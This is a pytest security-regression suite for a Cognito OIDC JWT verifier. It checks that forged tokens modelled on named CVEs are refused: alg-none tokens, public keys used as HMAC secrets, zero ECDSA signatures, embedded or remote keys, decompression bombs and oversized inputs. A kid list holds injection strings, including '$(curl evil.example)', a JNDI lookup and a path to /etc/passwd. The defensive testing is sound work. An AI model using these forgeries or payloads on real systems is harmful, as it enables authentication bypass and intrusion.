"""What went wrong in other JWT libraries, tried on this one through its public verifiers.

Each test names the incident where there is one that is known by name. Every forged token is one that a library once
accepted, or died of. A verifier here has the pool's keys and no way to the network, unless a test gives it one.
"""

import hmac
import json
import zlib
from base64 import b64encode
from collections.abc import Callable, Mapping
from functools import partial
from typing import Final

import anyio
import httpx
import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from cognito_oidc import CachePolicy, SyncTokenVerifier, TokenVerifier, UserPool
from cognito_oidc.errors import (
    CognitoOidcError,
    ConfigurationError,
    ExpiredTokenError,
    InvalidClaimError,
    InvalidSignatureError,
    KeysUnavailableError,
    MalformedTokenError,
    TokenVerificationError,
    UnknownKeyError,
)
from cognito_oidc.protocol.typed_claims import AccessTokenClaims
from tests.factories import (
    ABSENT,
    ACCESS_KID,
    CLIENT_ID,
    ID_KID,
    ISSUER,
    NOW,
    POOL_ID,
    SUB,
    UPDATED_ISSUER,
    access_payload,
    b64,
    b64_int,
    id_payload,
    jwk,
    key_set,
    rsa_key,
    sign,
    sign_segments,
    sync_verifier,
)

Verify = Callable[[str], object]
HEADER: Final[Mapping[str, object]] = {"kid": ACCESS_KID, "alg": "RS256"}
NO_LOOKUPS: Final = CachePolicy(lookups=0)


def async_verifier(**changes: object) -> TokenVerifier:
    """Return an asynchronous verifier that was given the pool's keys."""
    options = {"client_ids": [CLIENT_ID], "jwks": key_set(), "clock": lambda: NOW, **changes}
    return TokenVerifier(UserPool(POOL_ID), **options)  # type: ignore[arg-type]  # a test says what it changes


def warm(token: str) -> object:
    """Verify with a synchronous verifier that has seen a good token, and so goes its fastest way."""
    verifier = sync_verifier(policy=NO_LOOKUPS, verified_cache_size=8)
    verifier.verify_access_token(sign(access_payload()))
    return verifier.verify_access_token(token)


@pytest.fixture(params=["sync", "sync-warm", "async", "nowait"])
def verify(request: pytest.FixtureRequest) -> Verify:
    """Verify an access token in each of the ways there are."""
    ways: dict[str, Verify] = {
        "sync": lambda token: sync_verifier(policy=NO_LOOKUPS).verify_access_token(token),
        "sync-warm": warm,
        "async": lambda token: anyio.run(async_verifier(policy=NO_LOOKUPS).verify_access_token, token),
        "nowait": lambda token: async_verifier(policy=NO_LOOKUPS).verify_access_token_nowait(token),
    }
    return ways[str(request.param)]


def segment(value: object) -> str:
    """Return a value as a part of a token."""
    return b64(value if isinstance(value, bytes) else json.dumps(value).encode())


def forged(header: object, payload: object = None, signature: bytes = b"") -> str:
    """Return a token put together from its parts."""
    return f"{segment(header)}.{segment(payload or access_payload())}.{b64(signature)}"


def hmac_signed(header: Mapping[str, object], key: bytes) -> str:
    """Return a token that is authenticated with a shared secret, by the hash that its header names."""
    signing_input = f"{segment(header)}.{segment(access_payload())}"
    digest = f"sha{str(header['alg'])[2:]}"
    return f"{signing_input}.{b64(hmac.digest(key, signing_input.encode(), digest))}"


def test_a_good_token_passes_everywhere(verify: Verify) -> None:
    """Else nothing below would mean anything."""
    assert verify(sign(access_payload())) is not None


# --- algorithms -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE", "NonE", "none ", "", None])
@pytest.mark.parametrize("signature", [pytest.param(b"", id="empty"), pytest.param(b"x", id="some")])
def test_alg_none(verify: Verify, alg: str | None, signature: bytes) -> None:
    """Unsigned tokens passed in many libraries, in other cases too (CVE-2018-1000531 of prime-jwt)."""
    with pytest.raises(MalformedTokenError, match="alg is"):
        verify(forged({**HEADER, "alg": alg}, signature=signature))


def test_alg_none_with_a_good_signature(verify: Verify) -> None:
    """The header counts, not only the signature."""
    with pytest.raises(MalformedTokenError, match="alg is 'none'"):
        verify(sign(access_payload(), header={**HEADER, "alg": "none"}))


def test_an_empty_signature(verify: Verify) -> None:
    """A good header and no signature: CVE-2020-28042 of ServiceStack accepted it."""
    with pytest.raises(InvalidSignatureError):
        verify(forged(HEADER))


def test_a_token_without_its_signature(verify: Verify) -> None:
    """Two parts, with and without their last dot, are none."""
    with pytest.raises(MalformedTokenError, match="2 parts"):
        verify(sign(access_payload()).rpartition(".")[0])


PUBLIC = rsa_key("access").public_key()
NUMBERS = PUBLIC.public_numbers()
SPKI, PKCS1, OPENSSH = PublicFormat.SubjectPublicKeyInfo, PublicFormat.PKCS1, PublicFormat.OpenSSH
PUBLIC_KEY_FORMS = [
    pytest.param(PUBLIC.public_bytes(Encoding.PEM, SPKI), id="pem"),
    pytest.param(PUBLIC.public_bytes(Encoding.PEM, SPKI).strip(), id="pem-without-line-break"),
    pytest.param(PUBLIC.public_bytes(Encoding.PEM, SPKI).replace(b"\n", b"\r\n"), id="pem-with-crlf"),
    pytest.param(PUBLIC.public_bytes(Encoding.PEM, PKCS1), id="pem-pkcs1"),
    pytest.param(PUBLIC.public_bytes(Encoding.DER, SPKI), id="der"),
    pytest.param(PUBLIC.public_bytes(Encoding.DER, PKCS1), id="der-pkcs1"),
    pytest.param(b64encode(PUBLIC.public_bytes(Encoding.DER, SPKI)), id="der-in-base64"),
    pytest.param(PUBLIC.public_bytes(Encoding.OpenSSH, OPENSSH), id="openssh"),
    pytest.param(json.dumps(jwk(rsa_key("access"), ACCESS_KID)).encode(), id="jwk"),
    pytest.param(json.dumps(jwk(rsa_key("access"), ACCESS_KID), separators=(",", ":")).encode(), id="jwk-compact"),
    pytest.param(json.dumps(key_set()).encode(), id="jwk-set"),
    pytest.param(b64_int(NUMBERS.n).encode(), id="modulus-in-base64url"),
    pytest.param(NUMBERS.n.to_bytes(256, "big"), id="modulus"),
    pytest.param(ACCESS_KID.encode(), id="kid"),
    pytest.param(b"", id="empty"),
]


@pytest.mark.parametrize("key", PUBLIC_KEY_FORMS)
@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512"])
def test_the_public_key_as_a_shared_secret(key: bytes, alg: str) -> None:
    """RS256 turned to HS256: CVE-2015-9235 of jsonwebtoken, CVE-2016-10555 of jwt-simple, CVE-2024-37568 of Authlib.

    By forms of the key that a check for PEM overlooks: CVE-2017-11424 and CVE-2022-29217 of PyJWT, CVE-2024-33663 of
    python-jose.
    """
    with pytest.raises(MalformedTokenError, match=f"alg is '{alg}'"):
        warm(hmac_signed({**HEADER, "alg": alg}, key))


@pytest.mark.parametrize("key", PUBLIC_KEY_FORMS)
def test_the_public_key_as_a_shared_secret_under_the_right_alg(key: bytes) -> None:
    """The same with a header that says RS256."""
    with pytest.raises(InvalidSignatureError):
        warm(f"{forged(HEADER)}{hmac_signed({**HEADER, 'alg': 'HS256'}, key).rpartition('.')[2]}")


@pytest.mark.parametrize(
    "signature",
    [
        pytest.param(bytes(64), id="zeros-of-p-256"),
        pytest.param(bytes(96), id="zeros-of-p-384"),
        pytest.param(bytes(132), id="zeros-of-p-521"),
        pytest.param(bytes.fromhex("3006020100020100"), id="zeros-in-der"),
        pytest.param(bytes(31) + b"\x01" + bytes(31) + b"\x01", id="ones"),
        pytest.param(bytes(256), id="zeros-of-rsa"),
        pytest.param(bytes(255) + b"\x01", id="one-of-rsa"),
        pytest.param((NUMBERS.n - 1).to_bytes(256, "big"), id="modulus-less-one"),
        pytest.param(NUMBERS.n.to_bytes(256, "big"), id="modulus"),
        pytest.param(b"\xff" * 256, id="over-the-modulus"),
        pytest.param(b"\xff" * 512, id="twice-as-long"),
    ],
)
@pytest.mark.parametrize("alg", ["RS256", "ES256", "ES384", "ES512"])
def test_psychic_signatures(signature: bytes, alg: str) -> None:
    """Java took (0, 0) for an ECDSA signature of anything (CVE-2022-21449); trivial RSA numbers are none either."""
    with pytest.raises((MalformedTokenError, InvalidSignatureError)):
        warm(forged({**HEADER, "alg": alg}, signature=signature))


def test_an_elliptic_key_under_the_same_kid() -> None:
    """A key of another type that took the kid of the RSA key neither replaces it nor verifies anything."""
    private = ec.generate_private_key(ec.SECP256R1())
    point = private.public_key().public_numbers()
    impostor = {"kty": "EC", "crv": "P-256", "kid": ACCESS_KID, "x": b64_int(point.x), "y": b64_int(point.y)}
    verifier = sync_verifier(jwks={"keys": [impostor, jwk(rsa_key("access"), ACCESS_KID)]})
    signature = private.sign(b"anything", ec.ECDSA(hashes.SHA256()))
    with pytest.raises(MalformedTokenError):
        verifier.verify_access_token(forged({**HEADER, "alg": "ES256"}, signature=signature))
    assert verifier.verify_access_token(sign(access_payload())).sub == SUB


@pytest.mark.parametrize(
    ("alg", "scheme", "digest"),
    [
        pytest.param("PS256", padding.PSS(padding.MGF1(hashes.SHA256()), 32), hashes.SHA256(), id="ps256"),
        pytest.param("RS256", padding.PSS(padding.MGF1(hashes.SHA256()), 32), hashes.SHA256(), id="pss-as-rs256"),
        pytest.param("RS384", padding.PKCS1v15(), hashes.SHA384(), id="rs384"),
        pytest.param("RS256", padding.PKCS1v15(), hashes.SHA384(), id="sha384-as-rs256"),
        pytest.param("RS512", padding.PKCS1v15(), hashes.SHA512(), id="rs512"),
        pytest.param("RS1", padding.PKCS1v15(), hashes.SHA1(), id="rs1"),  # noqa: S303 - what must not pass
        pytest.param("RS256", padding.PKCS1v15(), hashes.SHA1(), id="sha1-as-rs256"),  # noqa: S303
    ],
)
def test_another_algorithm_of_the_same_key(alg: str, scheme: padding.PKCS1v15, digest: hashes.SHA256) -> None:
    """A key is for one algorithm (RFC 8725 section 3.1), even where the signature itself is right."""
    signing_input = f"{segment({**HEADER, 'alg': alg})}.{segment(access_payload())}"
    signature = rsa_key("access").sign(signing_input.encode(), scheme, digest)
    with pytest.raises((MalformedTokenError, InvalidSignatureError)):
        warm(f"{signing_input}.{b64(signature)}")


# --- keys from the token ----------------------------------------------------------------------------------------------

EVIL: Final = "https://evil.example"


class Wire:
    """An HTTP client for both verifiers that answers with the pool's keys and keeps what was asked for."""

    def __init__(self, jwks: Mapping[str, object] | None = None) -> None:
        self.urls: list[str] = []
        self.jwks = key_set() if jwks is None else jwks
        self.sync = httpx.Client(transport=httpx.MockTransport(self.answer))

    def answer(self, request: httpx.Request) -> httpx.Response:
        """Answer with the key set, wherever it is asked for."""
        self.urls.append(str(request.url))
        return httpx.Response(200, json=self.jwks)


EMBEDDED = [
    pytest.param({"jwk": jwk(rsa_key("evil"), ACCESS_KID)}, id="jwk"),
    pytest.param({"jwk": jwk(rsa_key("access"), ACCESS_KID)}, id="jwk-of-the-pool"),
    pytest.param({"jku": f"{EVIL}/jwks.json"}, id="jku"),
    pytest.param({"jku": f"{ISSUER}/.well-known/jwks.json"}, id="jku-of-the-pool"),
    pytest.param({"jku": f"{ISSUER}@evil.example/jwks.json"}, id="jku-that-begins-like-the-pool"),
    pytest.param({"x5u": f"{EVIL}/cert.pem"}, id="x5u"),
    pytest.param({"x5c": [b64encode(b"certificate").decode()]}, id="x5c"),
    pytest.param({"x5c": []}, id="x5c-empty"),
]


@pytest.mark.parametrize("member", EMBEDDED)
@pytest.mark.parametrize("kid", [ACCESS_KID, "evil", ABSENT])
def test_a_key_from_the_header(member: Mapping[str, object], kid: object) -> None:
    """A token that brings its own key, or says where to fetch it: CVE-2018-0114 of node-jose; RFC 8725 section 3.10.

    It is refused even when it is signed by the pool, and nothing is fetched for it, from nowhere.
    """
    wire = Wire()
    verifier = sync_verifier(http_client=wire.sync)
    header = {name: value for name, value in {**HEADER, "kid": kid, **member}.items() if value is not ABSENT}
    for signer in ("evil", "access"):
        with pytest.raises(MalformedTokenError, match="which Cognito never sends"):
            verifier.verify_access_token(sign(access_payload(), header=header, key=rsa_key(signer)))
    assert wire.urls == []


KIDS = [
    "../../../../../../dev/null",
    "/etc/passwd",
    "file:///dev/null",
    "C:\\Windows\\win.ini",
    "' UNION SELECT 'secret' -- ",
    "1; DROP TABLE keys",
    "$(curl evil.example)",
    "`id`",
    "https://evil.example/jwks.json?",
    "?url=https://evil.example&x=",
    "#",
    "%00",
    "\x00",
    "\r\nHost: evil.example",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "__proto__",
    "__class__",
    "keys",
    "*",
    ACCESS_KID + "\x00",
    ACCESS_KID + " ",
    ACCESS_KID.lower(),
    ACCESS_KID[:-1],
]


@pytest.mark.parametrize("kid", KIDS)
def test_a_kid_is_a_name_and_nothing_else(kid: str) -> None:
    """A kid as a path, SQL, a command, a URL or its query: it is looked for in the pool's key set, byte by byte."""
    wire = Wire()
    verifier = sync_verifier(http_client=wire.sync)
    with pytest.raises(UnknownKeyError) as refused:
        verifier.verify_access_token(sign(access_payload(), header={**HEADER, "kid": kid}))
    assert (refused.value.looked_up, wire.urls) == (True, [f"{ISSUER}/.well-known/jwks.json"])


def test_no_kid_is_not_any_kid() -> None:
    """Some libraries (joserfc among them) try the only key of a set for a token that names none."""
    verifier = sync_verifier(jwks={"keys": [jwk(rsa_key("access"), ACCESS_KID)]})
    with pytest.raises(MalformedTokenError, match="kid is nothing"):
        verifier.verify_access_token(sign(access_payload(), header={"alg": "RS256"}))


def test_the_signature_of_another_key_of_the_set(verify: Verify) -> None:
    """Only the key that the header names may have signed."""
    with pytest.raises(InvalidSignatureError):
        verify(sign(access_payload(), header={**HEADER, "kid": ID_KID}, key=rsa_key("access")))


def test_the_key_for_id_tokens_may_sign_an_access_token() -> None:
    """Cognito signs each kind with its own key, but its key set does not say which is which: the kind is a claim."""
    token = sign(access_payload(), header={**HEADER, "kid": ID_KID}, key=rsa_key("id"))
    assert sync_verifier().verify_access_token(token).sub == SUB


def test_an_id_token_is_no_access_token(verify: Verify) -> None:
    """Cross-JWT confusion (RFC 8725 section 2.8): the kind is checked, whatever else fits."""
    with pytest.raises(InvalidClaimError) as refused:
        verify(sign(id_payload(client_id=CLIENT_ID, scope="openid")))
    assert refused.value.claim == "token_use"


def test_the_same_kid_in_another_pool(verify: Verify) -> None:
    """Whoever owns a pool can choose claims, but not our keys."""
    with pytest.raises(InvalidSignatureError):
        verify(sign(access_payload(), key=rsa_key("evil")))


def test_the_keys_of_one_issuer_do_not_serve_the_other() -> None:
    """A token that names the pool's updated issuer needs a key that was got from there."""
    verifier = sync_verifier(http_client=httpx.Client(transport=httpx.MockTransport(lambda _: httpx.Response(404))))
    with pytest.raises(KeysUnavailableError):
        verifier.verify_access_token(sign(access_payload(iss=UPDATED_ISSUER)))


def test_a_withdrawn_key_is_not_remembered_by_its_header() -> None:
    """What was learned from a header dies with the key set it was learned under."""
    moment = [float(NOW)]
    wire = Wire({"keys": [jwk(rsa_key("id"), ID_KID)]})
    verifier = sync_verifier(http_client=wire.sync, clock=lambda: moment[0], verified_cache_size=8)
    token = sign(access_payload(exp=NOW + 7200))
    verifier.verify_access_token(token)
    verifier.verify_access_token(token)
    moment[0] += 3601
    with pytest.raises(UnknownKeyError):
        verifier.verify_access_token(token)


# --- header members that change the rules -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "member",
    [
        pytest.param({"crit": ["exp"]}, id="known"),
        pytest.param({"crit": ["bork"], "bork": True}, id="unknown"),
        pytest.param({"crit": []}, id="empty"),
        pytest.param({"crit": ["alg", "alg"]}, id="twice"),
        pytest.param({"crit": "exp"}, id="string"),
        pytest.param({"crit": 5}, id="number"),
        pytest.param({"crit": None}, id="null"),
        pytest.param({"crit": {"exp": 1}}, id="object"),
        pytest.param({"crit": [[]]}, id="unhashable"),
    ],
)
def test_crit(verify: Verify, member: Mapping[str, object]) -> None:
    """Unknown critical members were ignored (CVE-2025-59420 of Authlib), or a number was a TypeError (joserfc)."""
    with pytest.raises(MalformedTokenError, match="header has 'crit'"):
        verify(sign(access_payload(), header={**HEADER, **member}))


@pytest.mark.parametrize("b64_member", [False, True, None, "false"])
def test_b64(verify: Verify, b64_member: object) -> None:
    """RFC 7797 would change what is signed; its member is refused in any form, with and without `crit`."""
    with pytest.raises(MalformedTokenError, match="header has 'b64'"):
        verify(sign(access_payload(), header={**HEADER, "b64": b64_member}))


def test_b64_with_a_payload_that_is_not_encoded(verify: Verify) -> None:
    """The payload stands there as JSON, signed as it stands."""
    header = segment({**HEADER, "b64": False, "crit": ["b64"]})
    with pytest.raises(TokenVerificationError):
        verify(sign_segments(header, json.dumps(access_payload()).replace(".", ""), key=rsa_key("access")))


def test_zip(verify: Verify) -> None:
    """Decompression bombs: CVE-2024-33664 of python-jose, CVE-2024-28180 of go-jose. Nothing is decompressed here."""
    bomb = zlib.compress(b" " * 10_000_000)
    with pytest.raises(MalformedTokenError):
        verify(sign(bomb, header={**HEADER, "zip": "DEF"}))


@pytest.mark.parametrize("parts", [3, 5])
@pytest.mark.parametrize("alg", ["PBES2-HS256+A128KW", "PBES2-HS512+A256KW", "dir", "RSA-OAEP", "RSA1_5"])
def test_pbes2_and_other_encryption(verify: Verify, alg: str, parts: int) -> None:
    """Billions of iterations asked for by a header: CVE-2022-36083 of jose, CVE-2023-6681 of jwcrypto."""
    header = {**HEADER, "alg": alg, "enc": "A256GCM", "p2c": 2**31 - 1, "p2s": "c2FsdA"}
    with pytest.raises(MalformedTokenError):
        verify(".".join([segment(header), *["AAAA"] * (parts - 1)]))


@pytest.mark.parametrize(
    "form",
    [
        pytest.param("flattened", id="flattened"),
        pytest.param("general", id="general"),
        pytest.param("mixed", id="mixed"),
    ],
)
def test_the_json_forms_of_a_signature(verify: Verify, form: str) -> None:
    """JSON beside the compact form let python-jwt verify one text and read another: CVE-2022-39227."""
    good = sign(access_payload())
    first, second, third = good.split(".")
    forms = {
        "flattened": {"protected": first, "payload": second, "signature": third},
        "general": {"payload": second, "signatures": [{"protected": first, "signature": third}]},
        "mixed": {f"  {first}.": "", "protected": first, "payload": second, "signature": third},
    }
    with pytest.raises(MalformedTokenError):
        verify(json.dumps(forms[form]))


# --- claims -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "iss",
    [
        pytest.param(ISSUER[:-1], id="cut-off"),
        pytest.param(ISSUER[:30], id="prefix"),
        pytest.param(ISSUER[8:], id="suffix"),
        pytest.param("", id="empty"),
        pytest.param(f"{ISSUER}/", id="trailing-slash"),
        pytest.param(f"{ISSUER}/.well-known/jwks.json", id="goes-on"),
        pytest.param(f"{ISSUER}?x", id="query"),
        pytest.param(f"{ISSUER}#x", id="fragment"),
        pytest.param(f"{ISSUER}@evil.example", id="as-user-information"),
        pytest.param(f"{EVIL}/{ISSUER}", id="on-another-host"),
        pytest.param(f"{ISSUER}\x00", id="null-character"),
        pytest.param(ISSUER.replace("amazonaws.com", "amazonaws.com.evil.example"), id="longer-host"),
        pytest.param(ISSUER.replace("cognito-idp.", "cognito-idp%2e"), id="escaped"),
        pytest.param(ISSUER.upper(), id="upper-case"),
        pytest.param(f"https://issuer.cognito-idp.eu-west-1.amazonaws.com/{POOL_ID}", id="updated-with-a-dot"),
        pytest.param([ISSUER], id="list"),
        pytest.param({ISSUER: 1}, id="object"),
        pytest.param(None, id="null"),
    ],
)
def test_the_issuer_is_compared_as_a_whole(verify: Verify, iss: object) -> None:
    """A part of the issuer passed in PyJWT 2.10.0 (CVE-2024-53861); elsewhere whatever began like it."""
    with pytest.raises(InvalidClaimError) as refused:
        verify(sign(access_payload(iss=iss)))
    assert refused.value.claim == "iss"


def test_no_address_comes_from_a_token() -> None:
    """A verifier that has no keys yet fetches none for a token of somebody else's issuer."""
    wire = Wire()
    verifier = SyncTokenVerifier(UserPool(POOL_ID), client_ids=[CLIENT_ID], http_client=wire.sync, clock=lambda: NOW)
    with pytest.raises(InvalidClaimError) as refused:
        verifier.verify_access_token(sign(access_payload(iss=EVIL)))
    assert (refused.value.claim, refused.value.signature_checked, wire.urls) == ("iss", False, [])


@pytest.mark.parametrize("aud", [[], [CLIENT_ID], [CLIENT_ID, "other"], {}, "", None, ABSENT])
def test_an_audience_that_is_no_string(aud: object) -> None:
    """An empty list was no audience to check in jwt-go: CVE-2020-26160."""
    with pytest.raises(InvalidClaimError) as refused:
        sync_verifier().verify_id_token(sign(id_payload(aud=aud)), nonce=None)
    assert refused.value.claim == "aud"


def test_an_expired_token_with_a_bad_signature(verify: Verify) -> None:
    """Both are wrong, and who handles expiry must not overlook the other: CVE-2024-51744 of golang-jwt."""
    with pytest.raises(InvalidSignatureError):
        verify(sign(access_payload(exp=NOW - 1), key=rsa_key("evil")))


def test_an_expired_token_that_was_remembered() -> None:
    """A memory of verified tokens is no way around their end."""
    moment = [float(NOW)]
    verifier = sync_verifier(verified_cache_size=8, clock=lambda: moment[0])
    token = sign(access_payload(exp=NOW + 60))
    verifier.verify_access_token(token)
    moment[0] += 60
    with pytest.raises(ExpiredTokenError):
        verifier.verify_access_token(token)


def test_a_remembered_token_with_another_signature() -> None:
    """Only the very token that was verified is remembered."""
    verifier = sync_verifier(verified_cache_size=8)
    token = sign(access_payload())
    verifier.verify_access_token(token)
    for other in (f"{token.rpartition('.')[0]}.", f"{token[:-2]}AA", f"{token}AAAA"):
        with pytest.raises(TokenVerificationError):
            verifier.verify_access_token(other)


def with_number(claim: str, digits: str) -> str:
    """Return a signed token in which a claim is a number of exactly that text."""
    text = json.dumps(access_payload(**{claim: 123456789123})).replace("123456789123", digits)
    return sign(text.encode(), header=HEADER)


@pytest.mark.parametrize(
    "digits",
    [
        pytest.param("1" + "0" * 400, id="401-digits"),
        pytest.param("9" * 4300, id="4300-digits"),
        pytest.param("9" * 4301, id="4301-digits"),
        pytest.param("9" * 11_000, id="11000-digits"),
        pytest.param("-" + "9" * 400, id="negative"),
        pytest.param("1e400", id="infinite"),
        pytest.param("-1e400", id="negative-infinite"),
        pytest.param("1e" + "9" * 5000, id="exponent-of-5000-digits"),
    ],
)
@pytest.mark.parametrize("claim", ["exp", "iat", "nbf", "auth_time"])
def test_huge_numbers(verify: Verify, claim: str, digits: str) -> None:
    """Numbers that overflow a float, or that Python reads in quadratic time (CVE-2020-10735)."""
    with pytest.raises((MalformedTokenError, InvalidClaimError)):
        verify(with_number(claim, digits))


@pytest.mark.parametrize("digits", ["0." + "3" * 9000, "1e-400", "1e-" + "9" * 5000, "-0", "0e99999"])
@pytest.mark.parametrize("claim", ["nbf", "auth_time"])
def test_tiny_numbers(verify: Verify, claim: str, digits: str) -> None:
    """However they are written, they are about zero, and long ago is no fault of these claims."""
    assert verify(with_number(claim, digits)) is not None


# --- JSON -------------------------------------------------------------------------------------------------------------

GOOD: Final = json.dumps(access_payload()).encode()[:-1]


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param(GOOD + b',"client_id":"evil"}', id="last"),
        pytest.param(b'{"client_id":"evil",' + GOOD[1:] + b"}", id="first"),
        pytest.param(GOOD + b',"cl\\u0069ent_id":"evil"}', id="escaped"),
        pytest.param(GOOD + b',"sub":"' + SUB.encode() + b'"}', id="the-same-value"),
        pytest.param(GOOD + b',"x":{"y":[{"z":1,"z":2}]}}', id="at-depth"),
    ],
)
def test_duplicate_members(verify: Verify, payload: bytes) -> None:
    """Two parsers read two values: how CouchDB made administrators (CVE-2017-12635)."""
    with pytest.raises(MalformedTokenError, match="has a member twice"):
        verify(sign(payload, header=HEADER))


def test_duplicate_members_in_the_header(verify: Verify) -> None:
    """The same for `alg`."""
    header = b'{"alg":"none","kid":"' + ACCESS_KID.encode() + b'","alg":"RS256"}'
    with pytest.raises(MalformedTokenError, match="has a member twice"):
        verify(sign(access_payload(), header=header))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-8-sig", "utf-7"])
@pytest.mark.parametrize("part", ["header", "payload"])
def test_another_encoding_of_json(verify: Verify, part: str, encoding: str) -> None:
    """Python's json reads UTF-16 and UTF-32 as well: a filter in front that does not sees another token."""
    text = '{"kid":"k","alg":"RS256","x":"{+"}' if part == "header" else GOOD.decode() + ',"x":"{+"}'
    octets = text.encode(encoding).replace(b"{", b"+AHs-") if encoding == "utf-7" else text.encode(encoding)
    token = sign(access_payload(), header=octets) if part == "header" else sign(octets, header=HEADER)
    with pytest.raises(MalformedTokenError, match="is not valid JSON in UTF-8"):
        verify(token)


@pytest.mark.parametrize("levels", [33, 199, 500, 5000])
@pytest.mark.parametrize("opening", ["[", '{"a":'])
@pytest.mark.parametrize("part", ["header", "payload"])
def test_deep_nesting(verify: Verify, part: str, opening: str, levels: int) -> None:
    """Recursion is the attacker's: Python's own parser raises RecursionError, which nobody catches."""
    closing = "]" if opening == "[" else "}"
    member = f',"deep":{opening * levels}1{closing * levels}}}'.encode()
    header = b'{"kid":"k","alg":"RS256"' + member
    with pytest.raises(MalformedTokenError):
        verify(sign(access_payload(), header=header) if part == "header" else sign(GOOD + member, header=HEADER))


@pytest.mark.parametrize("levels", [2500, 12_000])
def test_deep_nesting_that_is_never_closed(verify: Verify, levels: int) -> None:
    """The same, cut off."""
    with pytest.raises(MalformedTokenError):
        verify(sign(GOOD + b',"deep":' + b"[" * levels, header=HEADER))


# --- size and form ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "token",
    [
        pytest.param("." * 10_000_000, id="ten-million-dots"),
        pytest.param("a." * 5_000_000, id="five-million-parts"),
        pytest.param("a" * 10_000_000, id="no-dot"),
        pytest.param("a." + "b" * 10_000_000 + ".c", id="payload"),
        pytest.param("a" * 10_000_000 + ".b.c", id="header"),
        pytest.param("a.b." + "c" * 10_000_000, id="signature"),
    ],
)
def test_oversized_tokens(token: str) -> None:
    """Memory for every dot: CVE-2025-30204 of golang-jwt, CVE-2025-22868 of Go's x/oauth2.

    Size itself: CVE-2025-61920 of Authlib. Nothing is decoded, and the error does not hold the text.
    """
    with pytest.raises(MalformedTokenError) as refused:
        warm(token)
    assert len(str(refused.value)) < 300


def test_a_header_as_long_as_a_token_may_be(verify: Verify) -> None:
    """A kid of thousands of bytes within the size of a token is no key to any map."""
    with pytest.raises(MalformedTokenError, match="kid is"):
        verify(sign(access_payload(), header={**HEADER, "kid": "k" * 8000}))


GOOD_TOKEN: Final = sign(access_payload())


@pytest.mark.parametrize(
    "token",
    [
        pytest.param(f" {GOOD_TOKEN}", id="space-before"),
        pytest.param(f"{GOOD_TOKEN} ", id="space-behind"),
        pytest.param(f"{GOOD_TOKEN}\n", id="line-break-behind"),
        pytest.param(f"{GOOD_TOKEN}\x00", id="null-character-behind"),
        pytest.param(f"Bearer {GOOD_TOKEN}", id="bearer"),
        pytest.param(f'"{GOOD_TOKEN}"', id="quoted"),
        pytest.param(f"{GOOD_TOKEN}=", id="padded"),
        pytest.param(f"{GOOD_TOKEN}==", id="padded-twice"),
        pytest.param(f"{GOOD_TOKEN}.", id="dot-behind"),
        pytest.param(f".{GOOD_TOKEN}", id="dot-before"),
        pytest.param(GOOD_TOKEN.replace(".", ".."), id="dots-doubled"),
        pytest.param(GOOD_TOKEN.replace(".", "%2E"), id="dots-escaped"),
        pytest.param(GOOD_TOKEN.replace(".", "\u3002"), id="ideographic-dots"),
        pytest.param(GOOD_TOKEN.replace(".", ".\r\n "), id="folded"),
        pytest.param(GOOD_TOKEN[:-1] + chr(ord(GOOD_TOKEN[-1]) + 1), id="spare-bits-of-the-signature"),
        pytest.param(f"{GOOD_TOKEN},{GOOD_TOKEN}", id="twice"),
        pytest.param(f"{GOOD_TOKEN}\ud800", id="lone-surrogate"),
        pytest.param(GOOD_TOKEN.upper(), id="upper-case"),
        pytest.param("..", id="dots-only"),
        pytest.param("null.null.null", id="null"),
    ],
)
def test_another_text_of_a_good_token(verify: Verify, token: str) -> None:
    """There is one text for a token: else a list of revoked ones is walked around with a padding character."""
    with pytest.raises(MalformedTokenError):
        verify(token)


@pytest.mark.parametrize("token", [None, b"a.b.c", 5, ["a"], {}, object()])
def test_no_text(verify: Verify, token: object) -> None:
    """A header that was not there is None: that is a refusal, not a TypeError."""
    with pytest.raises(MalformedTokenError, match="A token is a str"):
        verify(token)  # type: ignore[arg-type]


# --- what errors say --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "token",
    [
        pytest.param(sign(access_payload(), key=rsa_key("evil")), id="signature"),
        pytest.param(sign(access_payload(exp=NOW - 1)), id="expired"),
        pytest.param(sign(access_payload(client_id="other")), id="client"),
        pytest.param(sign(access_payload(iss=EVIL)), id="issuer"),
        pytest.param(sign(access_payload(), header={**HEADER, "kid": "evil"}), id="kid"),
        pytest.param(sign(access_payload(), header={**HEADER, "alg": "none"}), id="alg"),
        pytest.param(f"{sign(access_payload())}=", id="form"),
    ],
)
def test_an_error_holds_no_part_of_the_token(verify: Verify, token: str) -> None:
    """An error that shows the expected signature forges tokens: CVE-2019-7644 of Auth0's WCF library.

    Ours show neither that nor the token, in their text, their causes, or what a debugger finds in them.
    """
    with pytest.raises(CognitoOidcError) as refused:
        verify(token)
    error = refused.value
    told = f"{error!s} {error!r} {error.explain()} {vars(error)} {error.__cause__!r}"
    assert not any(part[:20] in told for part in token.split("."))
    assert error.__cause__ is None


def test_a_forged_token_learns_no_oracle_from_its_code() -> None:
    """Every signature that is wrong gives one code, wherever it is wrong (no padding oracle as in Bleichenbacher's)."""
    codes = {
        caught.value.code
        for signature in (b"", bytes(256), b"\xff" * 256, b"\x00\x01" + b"\xff" * 254, bytes(255))
        for caught in [_refused(partial(warm, forged(HEADER, signature=signature)))]
    }
    assert codes == {"invalid_signature"}


def _refused(call: Callable[[], object]) -> pytest.ExceptionInfo[TokenVerificationError]:
    with pytest.raises(TokenVerificationError) as caught:
        call()
    return caught


# --- mistakes of callers that must not open the door ------------------------------------------------------------------


@pytest.mark.parametrize("name", ["required_scopes", "any_of_scopes", "required_groups", "any_of_groups"])
@pytest.mark.parametrize("value", ["", None, b"", False, 0])
def test_what_is_asked_is_asked_for_by_names(name: str, value: object) -> None:
    """An empty text out of a setting that nobody set is no request for nothing: it is a mistake, and said to be one."""
    verifier = sync_verifier()
    with pytest.raises(ConfigurationError):
        verifier.verify_access_token(GOOD_TOKEN, **{name: value})  # type: ignore[arg-type]


